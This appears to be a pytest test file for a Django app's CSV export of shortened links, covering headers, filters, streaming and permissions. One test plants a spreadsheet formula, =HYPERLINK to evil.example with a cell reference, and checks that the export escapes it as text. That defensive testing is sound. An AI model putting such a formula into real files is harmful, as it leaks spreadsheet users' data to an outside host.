import csv
import io
import json
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from apikeys.tests.factories import client_for, make_key
from links import exports, services
from links.tests.factories import count_people, make_link

pytestmark = pytest.mark.django_db
URL = "/api/links/export.csv"


def text_of(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def rows_of(response):
    return list(csv.DictReader(io.StringIO(text_of(response), newline="")))


def test_the_export_is_a_download_of_the_callers_links_newest_first(account, client):
    make_link()
    links = [make_link(account=account) for _ in range(3)]
    services.delete_link(link=links[1])
    response = client.get(URL)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="links-\d{4}-\d\d-\d\d\.csv"', response.headers["Content-Disposition"]
    )
    assert response.headers["Cache-Control"] == "private, no-store"
    assert [row["link_id"] for row in rows_of(response)] == [links[2].link_id, links[0].link_id]


def test_the_columns_and_values_are_those_of_the_list(account, client):
    plain = make_link(account=account)
    full = make_link(
        account=account,
        title='Größe, "quoted"',
        tags=["a", "ü"],
        password="secret",
        max_clicks=9,
        expires_at="2999-01-01T00:00:00Z",
    )
    count_people(full, 7)
    listed = client.get("/api/links").json()
    exported = rows_of(client.get(URL))
    assert list(exported[0]) == list(listed[0])
    for row, link in zip(exported, listed, strict=True):
        assert json.loads(row.pop("tags")) == link.pop("tags")
        texts = {name: "" if value is None else value for name, value in link.items()}
        assert row == {name: str(v).lower() if isinstance(v, bool) else str(v) for name, v in texts.items()}
    assert plain.link_id in {row["link_id"] for row in exported}


def test_the_export_takes_the_filters_of_the_list(account, client):
    news = make_link(account=account, tags=["news"], title="Spring")
    off = make_link(account=account, title="Autumn")
    services.update_link(link=off, is_active=False)
    for query, expected in (({"tag": "news"}, news), ({"search": "AUTU"}, off), ({"is_active": "false"}, off)):
        assert [row["link_id"] for row in rows_of(client.get(URL, query))] == [expected.link_id]


@pytest.mark.parametrize(("name", "value"), [("tag", ""), ("search", "a" * 101), ("is_active", "yes")])
def test_a_wrong_filter_is_refused_by_name(client, name, value):
    response = client.get(URL, {name: value})
    assert response.status_code == 400
    assert list(response.json()["errors"]) == [name]


def test_an_account_without_links_gets_the_names_of_the_columns(client):
    assert text_of(client.get(URL)) == ",".join(exports.COLUMNS) + "\r\n"


def test_links_made_and_deleted_meanwhile_shift_nothing(account, client, monkeypatch):
    monkeypatch.setattr(exports, "ROWS_AT_ONCE", 2)
    links = [make_link(account=account) for _ in range(6)]
    parts = iter(client.get(URL).streaming_content)
    text = next(parts) + next(parts)
    make_link(account=account)
    services.delete_link(link=links[4])
    services.delete_link(link=links[2])
    text += b"".join(parts)
    rows = csv.DictReader(io.StringIO(text.decode(), newline=""))
    assert [row["link_id"] for row in rows] == [links[n].link_id for n in (5, 4, 3, 1, 0)]


def test_an_export_costs_the_same_queries_for_two_and_for_many_links(account, client):
    def queries():
        with CaptureQueriesContext(connection) as captured:
            text_of(client.get(URL))
        return len(captured)

    for _ in range(2):
        make_link(account=account)
    queries()
    two = queries()
    for _ in range(18):
        make_link(account=account)
    assert queries() == two <= 4


def test_head_answers_with_the_same_headers_and_reads_no_link(account, client):
    make_link(account=account)
    head, get = client.head(URL), client.get(URL)
    assert head.status_code == 200
    assert head.headers["Content-Disposition"] == get.headers["Content-Disposition"]
    assert b"".join(head.streaming_content) == b""


def test_a_title_that_is_a_formula_is_only_text_to_a_spreadsheet(account, client):
    make_link(account=account, title='=HYPERLINK("https://evil.example/?"&A1)', custom_slug="-1-")
    row = rows_of(client.get(URL))[0]
    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1)'
    assert row["slug"] == "'-1-"


def test_a_key_that_may_not_view_is_refused():
    key = make_key("fluxly", scopes={"Links": ["Edit"]})
    assert client_for(key.secret).get(URL).status_code == 403
